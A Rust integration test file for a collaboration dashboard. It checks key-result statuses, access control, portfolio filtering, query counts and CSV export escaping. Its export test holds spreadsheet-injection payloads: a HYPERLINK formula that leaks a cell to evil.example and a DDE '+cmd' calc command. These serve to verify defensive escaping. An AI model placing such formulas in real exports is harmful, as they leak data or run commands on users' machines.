//! Dashboards, portfolios and exports: every objective and key result with the status the rules
//! give it, nothing for whoever may not read the collaboration, CSV cells that cannot run as
//! formulas, and a dashboard whose number of queries does not grow with the collaboration.

use std::sync::atomic::{AtomicUsize, Ordering};

use anyhow::{Context, Result, ensure};
use chrono::{Duration, NaiveDate};
use concord_app::Clock;
use concord_testkit::reqwest::StatusCode;
use concord_testkit::{Api, TestApp};
use serde_json::{Value, json};

fn today(app: &TestApp) -> NaiveDate {
    app.clock.now().date_naive()
}

/// `today` moved by `days`, as `YYYY-MM-DD`.
fn day(today: NaiveDate, days: i64) -> String {
    (today + Duration::days(days)).to_string()
}

fn id(v: &Value) -> String {
    v["id"].as_str().unwrap().to_owned()
}

/// A collaboration of `api`'s user (who becomes its coordinator); returns its id.
async fn collaboration(api: &Api, title: &str, visibility: &str) -> Result<String> {
    let created = api
        .post(
            "/api/v1/collaborations",
            &json!({"title": title, "summary": "Measured with care.", "visibility": visibility}),
        )
        .await?;
    ensure!(
        created.status() == StatusCode::CREATED,
        "{}",
        created.status()
    );
    Ok(id(&created.json::<Value>().await?["collaboration"]))
}

async fn objective(api: &Api, collaboration: &str, title: &str) -> Result<String> {
    let created = api
        .post(
            &format!("/api/v1/collaborations/{collaboration}/objectives"),
            &json!({"title": title, "status": "active"}),
        )
        .await?;
    ensure!(
        created.status() == StatusCode::CREATED,
        "{}",
        created.status()
    );
    Ok(id(&created.json::<Value>().await?["objective"]))
}

/// A key result rising from 10 (180 days ago) to 20 (in 180 days), measured monthly.
async fn key_result(api: &Api, objective: &str, name: &str, today: NaiveDate) -> Result<String> {
    let created = api
        .post(
            &format!("/api/v1/objectives/{objective}/key-results"),
            &json!({"name": name, "unit": "%", "direction": "increase",
                    "baseline_value": "10", "baseline_date": day(today, -180),
                    "target_value": "20", "target_date": day(today, 180), "cadence": "monthly"}),
        )
        .await?;
    let status = created.status();
    let body: Value = created.json().await?;
    ensure!(status == StatusCode::CREATED, "{status} {body}");
    Ok(id(&body["key_result"]))
}

/// Imports `(key result, days from today, value, source)` rows in one CSV upload.
async fn measure(
    api: &Api,
    collaboration: &str,
    today: NaiveDate,
    rows: &[(&str, i64, &str, &str)],
) -> Result<()> {
    let mut csv = String::from("key_result_id,date,value,source\n");
    for (key_result, days, value, source) in rows {
        csv.push_str(&format!(
            "{key_result},{},{value},\"{}\"\n",
            day(today, *days),
            source.replace('"', "\"\"")
        ));
    }
    import(api, collaboration, csv).await
}

async fn import(api: &Api, collaboration: &str, csv: String) -> Result<()> {
    let response = api
        .request(
            concord_testkit::reqwest::Method::POST,
            &format!("/api/v1/collaborations/{collaboration}/measurements/import"),
        )
        .header("content-type", "text/csv")
        .body(csv)
        .send()
        .await?;
    let status = response.status();
    ensure!(
        status == StatusCode::CREATED,
        "{status} {}",
        response.text().await?
    );
    Ok(())
}

/// Two objectives whose key results cover every status, and one objective without key results.
/// Returns (collaboration, [objective ids], key result ids by name).
async fn evaluated_collaboration(
    app: &TestApp,
    api: &Api,
) -> Result<(String, Vec<String>, Vec<(&'static str, String)>)> {
    let today = today(app);
    let c = collaboration(api, "Cleaner Air for Riverton", "partners").await?;
    let first = objective(api, &c, "Fewer days above the pollution limit").await?;
    let second = objective(api, &c, "Everyone can see the air quality").await?;
    let third = objective(api, &c, "A shared monitoring network").await?;
    let mut ids = Vec::new();
    for (objective, name) in [
        (&first, "Sensors online"),
        (&first, "Schools with filters"),
        (&first, "Clean-air days"),
        (&first, "Bus fleet electrified"),
        (&second, "Residents who check the index"),
        (&second, "Open data sets published"),
    ] {
        ids.push((name, key_result(api, objective, name, today).await?));
    }
    let kr = |name: &str| {
        ids.iter()
            .find(|(n, _)| *n == name)
            .map(|(_, id)| id.clone())
            .unwrap()
    };
    let (online, filters, clean, residents, open) = (
        kr("Sensors online"),
        kr("Schools with filters"),
        kr("Clean-air days"),
        kr("Residents who check the index"),
        kr("Open data sets published"),
    );
    measure(
        api,
        &c,
        today,
        &[
            // On track: the trend reaches 26 by the target date.
            (&online, -130, "12.5", "Sensor registry"),
            (&online, -70, "15", "Sensor registry"),
            (&online, -10, "17.5", "Sensor registry"),
            // Achieved: the latest value beats the target.
            (&filters, -40, "15", "Survey"),
            (&filters, -10, "21", "Survey"),
            // Off track: flat at the baseline.
            (&clean, -130, "10", ""),
            (&clean, -70, "10", ""),
            (&clean, -10, "10", ""),
            // At risk: the trend gets about 85% of the way.
            (&residents, -130, "12.79", "Web analytics"),
            (&residents, -70, "13.89", "Web analytics"),
            (&residents, -10, "15", "Web analytics"),
            // Stale: nothing for 100 days on a monthly cadence.
            (&open, -100, "12", "Portal"),
        ],
    )
    .await?;
    // "Bus fleet electrified" stays without measurements: not started.
    Ok((c, vec![first, second, third], ids))
}

#[tokio::test]
async fn the_dashboard_shows_every_objective_and_key_result_with_its_status() -> Result<()> {
    let app = TestApp::spawn_with_demo().await?;
    let bob = app.api(Some(&app.token_for("bob@transport.example").await?));
    let (c, objectives, key_results) = evaluated_collaboration(&app, &bob).await?;

    let d = bob
        .get_json(&format!("/api/v1/collaborations/{c}/dashboard"))
        .await?;
    assert_eq!(d["collaboration"]["title"], "Cleaner Air for Riverton");
    assert_eq!(d["as_of"], today(&app).to_string());
    let listed: Vec<String> = d["objectives"]
        .as_array()
        .unwrap()
        .iter()
        .map(|o| id(&o["objective"]))
        .collect();
    assert_eq!(listed, objectives, "every objective, in order");
    let status_of = |name: &str| -> String {
        d["objectives"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|o| o["key_results"].as_array().unwrap())
            .find(|k| k["key_result"]["name"] == name)
            .map(|k| k["assessment"]["status"].as_str().unwrap().to_owned())
            .unwrap_or_else(|| panic!("{name} missing from {d}"))
    };
    for (name, expected) in [
        ("Sensors online", "on_track"),
        ("Schools with filters", "achieved"),
        ("Clean-air days", "off_track"),
        ("Bus fleet electrified", "not_started"),
        ("Residents who check the index", "at_risk"),
        ("Open data sets published", "stale"),
    ] {
        assert_eq!(status_of(name), expected, "{name}");
    }
    let o = &d["objectives"];
    // The worst of its key results; not started without any.
    assert_eq!(o[0]["status"], "off_track");
    assert_eq!(o[1]["status"], "at_risk");
    assert_eq!(o[2]["status"], "not_started");
    assert_eq!(o[2]["key_results"], json!([]));
    assert_eq!(
        o[0]["key_result_counts"],
        json!({"on_track": 1, "at_risk": 0, "off_track": 1, "stale": 0, "not_started": 1,
               "achieved": 1, "total": 4})
    );
    assert_eq!(
        d["key_result_counts"],
        json!({"on_track": 1, "at_risk": 1, "off_track": 1, "stale": 1, "not_started": 1,
               "achieved": 1, "total": 6})
    );
    assert_eq!(
        d["objective_counts"],
        json!({"on_track": 0, "at_risk": 1, "off_track": 1, "stale": 0, "not_started": 1,
               "achieved": 0, "total": 3})
    );
    // Each card carries its measurements, oldest first, and its progress.
    let online = &o[0]["key_results"][0];
    assert_eq!(online["key_result"]["name"], "Sensors online");
    assert_eq!(
        online["measurements"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["value"].as_f64().unwrap())
            .collect::<Vec<_>>(),
        vec![12.5, 15.0, 17.5]
    );
    assert_eq!(online["measurements"][0]["source"], "Sensor registry");
    assert_eq!(online["assessment"]["progress"], 0.75);
    assert_eq!(online["assessment"]["latest"]["value"], 17.5);
    assert_eq!(online["key_result"]["id"], json!(key_results[0].1));

    // The page: the same objectives and key results, each status in words, a chart and its data.
    let browser = app.signed_in("bob@transport.example").await?;
    let (status, html) = browser
        .page(&format!("/collaborations/{c}/dashboard"))
        .await?;
    assert_eq!(status, StatusCode::OK);
    for text in [
        "Fewer days above the pollution limit",
        "Everyone can see the air quality",
        "A shared monitoring network",
        "Sensors online",
        "Schools with filters",
        "Clean-air days",
        "Bus fleet electrified",
        "Residents who check the index",
        "Open data sets published",
    ] {
        assert!(html.contains(text), "{text} missing from the page");
    }
    for (word, class) in [
        ("On track", "rag-on_track"),
        ("At risk", "rag-at_risk"),
        ("Off track", "rag-off_track"),
        ("Stale", "rag-stale"),
        ("Not started", "rag-not_started"),
        ("Achieved", "rag-achieved"),
    ] {
        assert!(
            html.contains(&format!("<span class=\"tag rag {class}\">{word}</span>")),
            "{word} tag missing"
        );
    }
    assert_eq!(html.matches("<svg").count(), 6, "one chart per key result");
    assert_eq!(html.matches("role=\"img\"").count(), 6);
    // Five key results have measurements, so five data tables, with the numbers in them.
    assert_eq!(html.matches("<details class=\"kr-data\">").count(), 5);
    assert!(html.contains("<td class=\"numeric\">17.5%</td>"));
    assert!(html.contains("<td>Sensor registry</td>"));
    assert!(
        html.contains(&format!("href=\"/key-results/{}\"", key_results[0].1)),
        "each card links to its key result"
    );
    assert!(html.contains(&format!(
        "href=\"/api/v1/collaborations/{c}/export/measurements.csv\""
    )));
    // The collaboration page links to its dashboard.
    let (_, show) = browser.page(&format!("/collaborations/{c}")).await?;
    assert!(show.contains(&format!("href=\"/collaborations/{c}/dashboard\"")));
    Ok(())
}

#[tokio::test]
async fn outsiders_get_nothing_and_portfolios_list_only_what_the_viewer_may_read() -> Result<()> {
    let app = TestApp::spawn_with_demo().await?;
    let alice = app.api(Some(&app.token_for("alice@health.example").await?));
    let bob = app.api(Some(&app.token_for("bob@transport.example").await?));
    let carol = app.api(Some(&app.token_for("carol@riverton.example").await?));
    let anonymous = app.api(None);
    let hospital = alice.get_json("/api/v1/collaborations?limit=100").await?["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["title"] == "Hospital Transfer Logistics")
        .map(id)
        .context("hospital")?;
    let objective = objective(&alice, &hospital, "Shorter transfer waits").await?;
    let kr = key_result(&alice, &objective, "Average wait", today(&app)).await?;
    measure(
        &alice,
        &hospital,
        today(&app),
        &[(&kr, -5, "12", "Dispatch log")],
    )
    .await?;

    // Members read it; an outsider and the public get 404 for the dashboard and every export.
    let dashboard = format!("/api/v1/collaborations/{hospital}/dashboard");
    assert_eq!(
        bob.get_json(&dashboard).await?["objectives"][0]["key_results"][0]["key_result"]["name"],
        "Average wait"
    );
    let mut paths = vec![dashboard];
    for file in [
        "objectives.csv",
        "objectives.json",
        "key-results.csv",
        "key-results.json",
        "measurements.csv",
        "measurements.json",
    ] {
        let path = format!("/api/v1/collaborations/{hospital}/export/{file}");
        assert_eq!(bob.get(&path).await?.status(), StatusCode::OK, "{path}");
        paths.push(path);
    }
    for path in &paths {
        for (who, api) in [("carol", &carol), ("anonymous", &anonymous)] {
            let response = api.get(path).await?;
            assert_eq!(response.status(), StatusCode::NOT_FOUND, "{who} {path}");
            let body = response.text().await?;
            assert!(
                !body.contains("Average wait") && !body.contains("Hospital"),
                "{body}"
            );
        }
    }
    let carol_browser = app.signed_in("carol@riverton.example").await?;
    let (status, html) = carol_browser
        .page(&format!("/collaborations/{hospital}/dashboard"))
        .await?;
    assert_eq!(status, StatusCode::NOT_FOUND);
    assert!(!html.contains("Average wait"));
    let (status, _) = app
        .browser()
        .page(&format!("/collaborations/{hospital}/dashboard"))
        .await?;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // City of Riverton leads Safe Routes (public) and Winter Resilience (partners only).
    let organisations = anonymous.get_json("/api/v1/organisations").await?;
    let org = |name: &str| {
        organisations["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|o| o["name"] == name)
            .map(id)
            .unwrap()
    };
    let city = org("City of Riverton");
    let titles = |portfolio: &Value| -> Vec<String> {
        portfolio["collaborations"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["collaboration"]["title"].as_str().unwrap().to_owned())
            .collect()
    };
    let portfolio = format!("/api/v1/organisations/{city}/portfolio");
    let mut carol_sees = titles(&carol.get_json(&portfolio).await?);
    carol_sees.sort();
    assert_eq!(
        carol_sees,
        vec!["Safe Routes to School", "Winter Resilience Plan"]
    );
    for (who, api) in [("bob", &bob), ("anonymous", &anonymous)] {
        assert_eq!(
            titles(&api.get_json(&portfolio).await?),
            vec!["Safe Routes to School"],
            "{who}"
        );
    }
    let bob_browser = app.signed_in("bob@transport.example").await?;
    let (status, html) = bob_browser
        .page(&format!("/organisations/{city}/portfolio"))
        .await?;
    assert_eq!(status, StatusCode::OK);
    assert!(html.contains("Safe Routes to School"));
    assert!(
        !html.contains("Winter Resilience Plan"),
        "Bob may not read it"
    );
    let (_, html) = carol_browser
        .page(&format!("/organisations/{city}/portfolio"))
        .await?;
    assert!(html.contains("Winter Resilience Plan"));
    // The health ministry's portfolio shows the hospital work to its members only.
    let health = format!(
        "/api/v1/organisations/{}/portfolio",
        org("Ministry of Health")
    );
    assert!(
        titles(&alice.get_json(&health).await?).contains(&"Hospital Transfer Logistics".to_owned())
    );
    assert!(
        !titles(&carol.get_json(&health).await?)
            .contains(&"Hospital Transfer Logistics".to_owned())
    );
    // Status counts per collaboration: the hospital's one objective is on its way.
    let counts = alice.get_json(&health).await?["collaborations"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["collaboration"]["title"] == "Hospital Transfer Logistics")
        .map(|e| e["objective_counts"]["total"].clone());
    assert_eq!(counts, Some(json!(1)));
    // An unknown organisation is not found.
    let unknown = format!("/api/v1/organisations/{}/portfolio", uuid::Uuid::now_v7());
    assert_eq!(
        anonymous.get(&unknown).await?.status(),
        StatusCode::NOT_FOUND
    );

    // Names of civil servants stay off anonymous views of a public dashboard.
    let safe_routes = titles(&anonymous.get_json(&portfolio).await?);
    assert_eq!(safe_routes.len(), 1);
    let safe_routes_id =
        anonymous.get_json(&portfolio).await?["collaborations"][0]["collaboration"]["id"]
            .as_str()
            .unwrap()
            .to_owned();
    let public = anonymous
        .get(&format!(
            "/api/v1/collaborations/{safe_routes_id}/dashboard"
        ))
        .await?
        .text()
        .await?;
    assert!(public.contains("Safe crossings at every primary school"));
    for name in ["Bob Lindqvist", "Hannah Okafor"] {
        assert!(!public.contains(name), "{name} shown to the public");
    }
    let signed_in = bob
        .get(&format!(
            "/api/v1/collaborations/{safe_routes_id}/dashboard"
        ))
        .await?
        .text()
        .await?;
    assert!(signed_in.contains("Bob Lindqvist"));
    Ok(())
}

/// Reads CSV text into rows of cells.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    csv_rows(text).collect()
}

/// A small RFC 4180 reader (quotes, doubled quotes, commas and line breaks inside quotes).
fn csv_rows(text: &str) -> impl Iterator<Item = Vec<String>> + '_ {
    let mut chars = text.chars().peekable();
    std::iter::from_fn(move || {
        chars.peek()?;
        let (mut row, mut cell, mut quoted) = (Vec::new(), String::new(), false);
        while let Some(ch) = chars.next() {
            match (ch, quoted) {
                ('"', true) if chars.peek() == Some(&'"') => {
                    chars.next();
                    cell.push('"');
                }
                ('"', _) => quoted = !quoted,
                (',', false) => row.push(std::mem::take(&mut cell)),
                ('\n', false) => break,
                ('\r', false) => {}
                (ch, _) => cell.push(ch),
            }
        }
        row.push(cell);
        Some(row)
    })
}

#[tokio::test]
async fn csv_exports_cannot_run_formulas() -> Result<()> {
    let app = TestApp::spawn_with_demo().await?;
    let bob = app.api(Some(&app.token_for("bob@transport.example").await?));
    let c = collaboration(&bob, "Export check", "partners").await?;
    let o = objective(&bob, &c, "@Objective with an at sign").await?;
    let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    let kr = key_result(&bob, &o, evil, today(&app)).await?;
    measure(
        &bob,
        &c,
        today(&app),
        &[
            (&kr, -20, "-2.5", "+cmd|' /C calc'!A0"),
            (&kr, -10, "11", "Survey, wave 2"),
        ],
    )
    .await?;

    let response = bob
        .get(&format!(
            "/api/v1/collaborations/{c}/export/key-results.csv"
        ))
        .await?;
    assert_eq!(response.status(), StatusCode::OK);
    let header = |name: &str| {
        response
            .headers()
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or_default()
            .to_owned()
    };
    assert!(header("content-type").starts_with("text/csv"));
    let disposition = header("content-disposition");
    let today = today(&app);
    assert_eq!(
        disposition,
        format!("attachment; filename=\"export-check-key-results-{today}.csv\"")
    );
    let rows = parse_csv(&response.text().await?);
    let name_col = rows[0].iter().position(|h| h == "name").unwrap();
    let title_col = rows[0].iter().position(|h| h == "objective_title").unwrap();
    assert_eq!(rows.len(), 2, "a header and one key result");
    assert_eq!(rows[1][name_col], format!("'{evil}"));
    assert_eq!(rows[1][title_col], "'@Objective with an at sign");

    let text = bob
        .get(&format!(
            "/api/v1/collaborations/{c}/export/measurements.csv"
        ))
        .await?
        .text()
        .await?;
    let rows = parse_csv(&text);
    assert_eq!(
        rows[0],
        [
            "key_result_id",
            "date",
            "value",
            "source",
            "key_result_name",
            "recorded_by",
            "recorded_at"
        ]
    );
    assert_eq!(rows.len(), 3);
    assert_eq!(rows[1][0], kr);
    assert_eq!(rows[1][2], "-2.5", "a number stays a number");
    assert_eq!(rows[1][3], "'+cmd|' /C calc'!A0");
    assert_eq!(rows[1][4], format!("'{evil}"));
    assert_eq!(rows[1][5], "Bob Lindqvist");
    assert_eq!(rows[2][3], "Survey, wave 2");

    let rows = parse_csv(
        &bob.get(&format!("/api/v1/collaborations/{c}/export/objectives.csv"))
            .await?
            .text()
            .await?,
    );
    assert_eq!(
        rows[0][..5],
        ["id", "position", "title", "status", "assessed_status"]
    );
    assert_eq!(rows[1][2], "'@Objective with an at sign");
    assert_eq!(rows[1][3], "active");

    // JSON is data for programs: the same fields, unescaped, typed.
    let json = bob
        .get_json(&format!(
            "/api/v1/collaborations/{c}/export/measurements.json"
        ))
        .await?;
    assert_eq!(json[0]["source"], "+cmd|' /C calc'!A0");
    assert_eq!(json[0]["value"], -2.5);
    assert_eq!(json[0]["key_result_name"], evil);
    let key_results = bob
        .get_json(&format!(
            "/api/v1/collaborations/{c}/export/key-results.json"
        ))
        .await?;
    assert_eq!(key_results[0]["name"], evil);
    assert_eq!(key_results[0]["latest_value"], 11.0);
    // Only the six files exist.
    for file in [
        "objectives.xlsx",
        "key_results.csv",
        "measurements",
        "audit.csv",
    ] {
        let response = bob
            .get(&format!("/api/v1/collaborations/{c}/export/{file}"))
            .await?;
        assert_eq!(response.status(), StatusCode::NOT_FOUND, "{file}");
    }
    Ok(())
}

// ---- The number of queries -----------------------------------------------------------------------

/// Counts sqlx's statement log events (target `sqlx::query`): one per statement run.
struct QueryCounter;

static QUERIES: AtomicUsize = AtomicUsize::new(0);

impl tracing::Subscriber for QueryCounter {
    fn enabled(&self, metadata: &tracing::Metadata<'_>) -> bool {
        metadata.target() == "sqlx::query"
    }
    fn max_level_hint(&self) -> Option<tracing::level_filters::LevelFilter> {
        Some(tracing::level_filters::LevelFilter::TRACE)
    }
    fn new_span(&self, _: &tracing::span::Attributes<'_>) -> tracing::span::Id {
        tracing::span::Id::from_u64(1)
    }
    fn record(&self, _: &tracing::span::Id, _: &tracing::span::Record<'_>) {}
    fn record_follows_from(&self, _: &tracing::span::Id, _: &tracing::span::Id) {}
    fn event(&self, event: &tracing::Event<'_>) {
        if event.metadata().target() == "sqlx::query" {
            QUERIES.fetch_add(1, Ordering::SeqCst);
        }
    }
    fn enter(&self, _: &tracing::span::Id) {}
    fn exit(&self, _: &tracing::span::Id) {}
}

const CHILD: &str = "CONCORD_QUERY_COUNT_CHILD";

/// The counter sees every statement of the process, so the counting runs in a process of its own:
/// this test runs [`query_count_probe`] alone in a child process.
#[test]
fn the_dashboard_takes_the_same_number_of_queries_for_50_key_results_as_for_2() -> Result<()> {
    if std::env::var_os(CHILD).is_some() {
        return Ok(());
    }
    let output = std::process::Command::new(std::env::current_exe()?)
        .args([
            "dashboard::query_count_probe",
            "--exact",
            "--nocapture",
            "--test-threads=1",
        ])
        .env(CHILD, "1")
        .output()?;
    let stdout = String::from_utf8_lossy(&output.stdout);
    ensure!(
        output.status.success() && stdout.contains("1 passed"),
        "the probe failed:\n{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    Ok(())
}

#[tokio::test]
async fn query_count_probe() -> Result<()> {
    if std::env::var_os(CHILD).is_none() {
        return Ok(());
    }
    tracing::subscriber::set_global_default(QueryCounter)?;
    let app = TestApp::spawn_with_demo().await?;
    let carol = app.api(Some(&app.token_for("carol@riverton.example").await?));
    let actor = concord_app::accounts::actor_for_email(&app.app, "carol@riverton.example")
        .await
        .map_err(|e| anyhow::anyhow!("{e:?}"))?;
    let today = today(&app);
    let c = collaboration(&carol, "Fifty indicators", "partners").await?;
    let collaboration_id: concord_domain::CollaborationId = c.parse().unwrap();
    let objectives = [
        objective(&carol, &c, "First").await?,
        objective(&carol, &c, "Second").await?,
    ];
    // Baseline 61 months ago, 60 monthly measurements up to last month.
    let baseline = today - chrono::Months::new(61);
    let mut ids = Vec::new();
    let add = |n: usize| {
        let carol = carol.clone();
        let objective = objectives[n % 2].clone();
        async move {
            let created = carol
                .post(
                    &format!("/api/v1/objectives/{objective}/key-results"),
                    &json!({"name": format!("Indicator {n:02}"), "unit": "%", "direction": "increase",
                            "baseline_value": "10", "baseline_date": baseline.to_string(),
                            "target_value": "80", "target_date": day(today, 365), "cadence": "monthly"}),
                )
                .await?;
            ensure!(created.status() == StatusCode::CREATED);
            Ok::<_, anyhow::Error>(id(&created.json::<Value>().await?["key_result"]))
        }
    };
    let csv_for = |ids: &[String]| {
        let mut csv = String::from("key_result_id,date,value,source\n");
        for (i, kr) in ids.iter().enumerate() {
            for m in 1..=60u32 {
                let date = baseline + chrono::Months::new(m);
                let value = 10.0 + f64::from(m) + (i % 7) as f64;
                csv.push_str(&format!("{kr},{date},{value},Monthly report\n"));
            }
        }
        csv
    };
    for n in 0..2 {
        ids.push(add(n).await?);
    }
    import(&carol, &c, csv_for(&ids)).await?;

    let count = |app: &TestApp, actor: &concord_domain::policy::Actor| {
        let (app, actor) = (app.app.clone(), actor.clone());
        async move {
            // Once to warm the pool, then counted.
            concord_app::dashboard::collaboration(&app, &actor, collaboration_id)
                .await
                .map_err(|e| anyhow::anyhow!("{e:?}"))?;
            let before = QUERIES.load(Ordering::SeqCst);
            let dashboard = concord_app::dashboard::collaboration(&app, &actor, collaboration_id)
                .await
                .map_err(|e| anyhow::anyhow!("{e:?}"))?;
            Ok::<_, anyhow::Error>((QUERIES.load(Ordering::SeqCst) - before, dashboard))
        }
    };
    let (small, dashboard) = count(&app, &actor).await?;
    assert_eq!(dashboard.key_result_counts.total, 2);
    let mut more = Vec::new();
    for n in 2..50 {
        more.push(add(n).await?);
    }
    import(&carol, &c, csv_for(&more)).await?;
    let (large, dashboard) = count(&app, &actor).await?;
    println!("queries for 2 key results: {small}; for 50 key results x 60 measurements: {large}");
    assert!(
        small > 0,
        "the counter saw no query: is sqlx logging statements?"
    );
    assert!(small <= 5, "{small} queries for one dashboard");
    assert_eq!(
        large, small,
        "the number of queries grew with the key results"
    );

    // And the large dashboard is right: 50 key results with 60 measurements each, evaluated.
    assert_eq!(dashboard.key_result_counts.total, 50);
    let cards: Vec<_> = dashboard
        .objectives
        .iter()
        .flat_map(|o| o.key_results.iter())
        .collect();
    assert_eq!(cards.len(), 50);
    assert!(cards.iter().all(|k| k.measurements.len() == 60));
    assert!(
        cards
            .iter()
            .all(|k| k.summary.assessment.latest.map(|m| m.date)
                == Some(baseline + chrono::Months::new(60)))
    );
    assert_eq!(dashboard.objectives[0].key_results.len(), 25);
    // The page and the JSON answer for it too.
    let json = carol
        .get_json(&format!("/api/v1/collaborations/{c}/dashboard"))
        .await?;
    assert_eq!(json["key_result_counts"]["total"], 50);
    let browser = app.signed_in("carol@riverton.example").await?;
    let (status, html) = browser
        .page(&format!("/collaborations/{c}/dashboard"))
        .await?;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(html.matches("<svg").count(), 50);
    assert_eq!(html.matches("<td class=\"numeric\">").count(), 3000);
    Ok(())
}
